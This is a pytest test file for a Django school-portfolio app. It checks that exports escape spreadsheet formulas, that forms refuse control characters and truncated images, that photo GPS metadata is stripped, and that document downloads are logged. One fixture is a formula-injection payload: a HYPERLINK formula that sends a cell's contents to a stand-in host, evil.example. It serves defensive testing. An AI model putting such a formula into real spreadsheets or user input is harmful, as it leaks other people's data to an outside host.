"""Files that come in and go out (issue 9 §4): what a family types stays text in the
class's spreadsheet, a control character is refused at the form and stripped from
older records at export, a cut-off image is refused even after a PDF has been made in
the same process, photos are stored without their GPS coordinates, and every generated
document handed out is logged."""

import hashlib
import io
import random
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from openpyxl import load_workbook
from PIL import ExifTags, Image, ImageFile
from pypdf import PdfReader

from achievements.models import Achievement, AchievementStatus, Evidence
from common.files import check_upload
from common.models import DocumentDownload
from tests.achievements.portfolio.factories import AchievementFactory, category
from tests.achievements.portfolio.files import pdf_bytes, upload

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Подробнее")'
CONTROL = (
    "Текст содержит невидимый управляющий символ (U+0001). Удалите его и сохраните снова: "
    "такие символы попадают в текст при копировании из других программ."
)
DAMAGED = "Файл «{}» повреждён или не открывается как {}. Сохраните его заново и загрузите ещё раз."
GPS = {
    ExifTags.GPS.GPSLatitudeRef: "N",
    ExifTags.GPS.GPSLatitude: (55.0, 45.0, 21.0),
    ExifTags.GPS.GPSLongitudeRef: "E",
    ExifTags.GPS.GPSLongitude: (37.0, 37.0, 4.0),
}


def _form(**extra):
    return {
        "category": category("olympiad").pk,
        "title": "Муниципальный этап ВсОШ по математике",
        "level": "municipal",
        "result": "winner",
        "stage": "municipal",
        "date": "2026-10-05",
        **extra,
    }


def _noise(kind: str, **options) -> bytes:
    """Random pixels, so that the image data is most of the file and a cut lands in it."""
    pixels = random.Random(3).randbytes(96 * 64 * 3)
    buffer = io.BytesIO()
    Image.frombytes("RGB", (96, 64), pixels).save(buffer, kind, **options)
    return buffer.getvalue()


def _xlsx(client, group):
    response = client.get(f"/portfolio/groups/{group.pk}/?format=xlsx")
    assert response.status_code == 200
    return response, load_workbook(io.BytesIO(response.content)).active


# Formula injection and control characters in the class's spreadsheet ------------------------


def test_class_xlsx_formula_typed_by_parent_stays_text(client, school):
    client.force_login(school.parent)
    client.post(
        f"/portfolio/learners/{school.learner.pk}/new/",
        _form(
            title=HYPERLINK, organiser="+7 (910) 123-45-67", files=[upload("д.pdf", pdf_bytes())]
        ),
    )
    assert Achievement.objects.get().title == HYPERLINK
    client.force_login(school.class_teacher.user)

    response, sheet = _xlsx(client, school.group)

    title, organiser = sheet["C2"], sheet["H2"]
    assert (title.value, title.data_type, title.quotePrefix) == (HYPERLINK, "s", True)
    assert (organiser.value, organiser.data_type, organiser.quotePrefix) == (
        "+7 (910) 123-45-67",
        "s",
        True,
    )
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
    assert b"HYPERLINK" in sheet_xml


def test_class_xlsx_record_with_control_character_downloads_stripped(client, school):
    AchievementFactory(
        learner=school.learner, title="ВсОШ\x01 по физике", organiser="Минобрнауки\x1b края"
    )
    client.force_login(school.class_teacher.user)

    _, sheet = _xlsx(client, school.group)

    assert (sheet["C2"].value, sheet["H2"].value) == ("ВсОШ по физике", "Минобрнауки края")


def test_learner_pdf_record_with_control_character_renders(client, school):
    AchievementFactory(learner=school.learner, title="ВсОШ\x01 по физике")
    client.force_login(school.class_teacher.user)

    response = client.get(f"/portfolio/learners/{school.learner.pk}/pdf/")

    assert response.status_code == 200
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert "ВсОШ по физике" in " ".join(text.split())


@pytest.mark.parametrize("field", ["title", "organiser", "subject_area", "description"])
def test_parent_proposal_with_control_character_refused_beside_field(client, school, field):
    client.force_login(school.parent)

    response = client.post(
        f"/portfolio/learners/{school.learner.pk}/new/",
        _form(**{field: "Олимпиада\x01 по физике", "files": [upload("д.pdf", pdf_bytes())]}),
    )

    assert response.status_code == 200
    assert response.context["form"].errors == {field: [CONTROL]}
    assert CONTROL in response.content.decode()
    assert Achievement.objects.count() == 0
    assert Evidence.objects.count() == 0


def test_rejection_comment_with_control_character_refused(client, school):
    achievement = AchievementFactory(learner=school.learner, status=AchievementStatus.PROPOSED)
    client.force_login(school.class_teacher.user)

    client.post(
        f"/portfolio/achievements/{achievement.pk}/decide/",
        {"to": AchievementStatus.REJECTED, "comment": "Нет\x01 скана"},
    )

    achievement.refresh_from_db()
    assert (achievement.status, achievement.status_comment) == (AchievementStatus.PROPOSED, "")


# A cut-off image after a PDF in the same process --------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("фото.png", _noise("PNG"), "PNG"),
        ("скан.jpg", _noise("JPEG"), "JPG"),
        ("скан.jpg", _noise("JPEG", progressive=True), "JPG"),
    ],
)
def test_check_upload_after_pdf_refuses_truncated_image(client, school, name, content, kind):
    client.force_login(school.class_teacher.user)
    assert client.get(f"/portfolio/learners/{school.learner.pk}/pdf/").status_code == 200
    # What made the hole: WeasyPrint switches Pillow's leniency on for the whole process.
    assert ImageFile.LOAD_TRUNCATED_IMAGES is True

    for cut in (len(content) // 2, len(content) * 9 // 10, len(content) - 2):
        with pytest.raises(ValidationError) as caught:
            check_upload(upload(name, content[:cut]))
        assert caught.value.messages == [DAMAGED.format(name, kind)]
    assert check_upload(upload(name, content)).content == content


# Location metadata --------------------------------------------------------------------------


def _photo_with_gps(kind: str) -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.IFD.GPSInfo] = GPS
    return _noise(kind, exif=exif)


@pytest.mark.parametrize(("kind", "name"), [("JPEG", "фото.jpg"), ("PNG", "фото.png")])
def test_parent_proposal_photo_stored_without_gps(client, school, kind, name):
    original = _photo_with_gps(kind)
    with Image.open(io.BytesIO(original)) as image:
        assert image.getexif().get_ifd(ExifTags.IFD.GPSInfo) == GPS
        original_pixels = image.tobytes()
    client.force_login(school.parent)

    response = client.post(
        f"/portfolio/learners/{school.learner.pk}/new/",
        _form(files=[upload(name, original)]),
    )

    assert response.status_code == 302
    evidence = Evidence.objects.get()
    stored = (Path(settings.MEDIA_ROOT) / evidence.file.name).read_bytes()
    assert stored != original
    assert (evidence.size, evidence.sha256) == (len(stored), hashlib.sha256(stored).hexdigest())
    with Image.open(io.BytesIO(stored)) as image:
        assert image.getexif().get_ifd(ExifTags.IFD.GPSInfo) == {}
        assert image.getexif()[ExifTags.Base.Orientation] == 6
        assert image.tobytes() == original_pixels
    assert b"GPS" not in stored


def test_check_upload_photo_without_gps_kept_byte_for_byte():
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 3
    original = _noise("JPEG", exif=exif)

    checked = check_upload(upload("фото.jpg", original))

    assert checked.content is original
    assert checked.sha256 == hashlib.sha256(original).hexdigest()


# Downloads of generated documents are logged ------------------------------------------------


def test_learner_pdf_download_logged(client, school):
    AchievementFactory(learner=school.learner)
    user = school.class_teacher.user
    client.force_login(user)

    response = client.get(f"/portfolio/learners/{school.learner.pk}/pdf/")

    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    record = DocumentDownload.objects.get()
    assert (
        record.user,
        record.kind,
        record.object_type,
        record.object_id,
        record.object_repr,
        record.filename,
        record.size,
        record.sha256,
    ) == (
        user,
        "portfolio_pdf",
        "learners.learner",
        str(school.learner.pk),
        "Антонова Мария Ивановна",
        "Портфолио Антонова Мария Ивановна.pdf",
        len(response.content),
        hashlib.sha256(response.content).hexdigest(),
    )


def test_class_xlsx_download_logged(client, school, class_entries):
    client.force_login(school.deputy)

    response, _ = _xlsx(client, school.group)

    assert list(
        DocumentDownload.objects.values_list(
            "user", "kind", "object_type", "object_id", "filename", "size", "sha256"
        )
    ) == [
        (
            school.deputy.pk,
            "group_portfolio_xlsx",
            "learners.studygroup",
            str(school.group.pk),
            "Портфолио 5А.xlsx",
            len(response.content),
            hashlib.sha256(response.content).hexdigest(),
        )
    ]


def test_class_page_not_logged_as_download(client, school, class_entries):
    client.force_login(school.class_teacher.user)

    assert client.get(f"/portfolio/groups/{school.group.pk}/").status_code == 200
    assert DocumentDownload.objects.count() == 0


@pytest.mark.parametrize(
    "url", ["/portfolio/learners/{learner}/pdf/", "/portfolio/groups/{group}/?format=xlsx"]
)
def test_refused_document_not_logged(client, school, url):
    client.force_login(school.other_class_teacher.user)

    response = client.get(url.format(learner=school.learner.pk, group=school.group.pk))

    assert response.status_code == 404
    assert DocumentDownload.objects.count() == 0
